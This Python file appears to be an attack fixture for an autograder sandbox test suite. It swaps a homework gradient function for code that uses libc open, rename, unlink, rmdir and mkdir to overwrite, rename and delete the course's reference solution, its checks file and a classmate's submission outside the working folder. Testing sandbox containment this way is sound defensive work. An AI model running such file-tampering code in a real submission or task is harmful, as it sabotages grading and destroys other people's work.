"""Attack `libc_write_outside`: the hw2_affine reference with ComputeGradients replaced by the attack.

Writes, renames and deletes outside the working folder with libc open(O_CREAT),
rename, unlink, mkdir and rmdir: the canaries, the course's reference and
checks, the classmate's file and the submission's own original.

Graded by tests/integration/test_attacks.py, which fills in the @...@ placeholders.
"""
@HONEST@
@TOOLKIT@
def wrong_answer(L):
    """Right shapes, wrong values: what the attacked function returns when the attack fails."""
    import numpy as np

    return [(np.zeros(np.shape(W)), np.zeros((np.shape(W)[0], 1))) for W, _ in L]


def ComputeGradients(L, x, z):
    say("canaries written", write_canaries())
    for path in ("@COURSE@/reference/hw2_affine/solution.py", "@COURSE@/assignments/hw2_affine/checks.py",
                 "@FOLDER@/homework2_affine_classmate.py"):
        raw = os.fsencode(path)
        fd = libc.open(raw, os.O_WRONLY | os.O_TRUNC)
        say("open for writing", path, "->", "OPENED" if fd >= 0 else errno_text())
        if fd >= 0:
            os.write(fd, b"sabotage")
            os.close(fd)
        say("rename", path, "->", "RENAMED" if libc.rename(raw, raw + b".bak") == 0 else errno_text())
        say("unlink", path, "->", "DELETED" if libc.unlink(raw) == 0 else errno_text())
    for folder in ("@COURSE@/assignments/hw2_affine", "@COURSE@/reference/hw2_affine"):
        say("rmdir", folder, "->", "REMOVED" if libc.rmdir(os.fsencode(folder)) == 0 else errno_text())
    say("mkdir", "->", "MADE" if libc.mkdir(os.fsencode(CANARIES[0] + "-dir"), 0o755) == 0 else errno_text())
    return None
